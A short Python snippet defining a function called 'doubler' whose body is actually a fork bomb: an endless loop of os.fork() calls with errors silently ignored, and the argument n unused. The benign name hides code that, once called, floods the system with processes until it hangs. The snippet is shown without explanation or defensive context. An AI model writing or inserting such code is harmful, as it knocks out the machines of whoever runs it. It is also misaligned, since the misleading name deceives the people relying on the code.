import os

def doubler(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
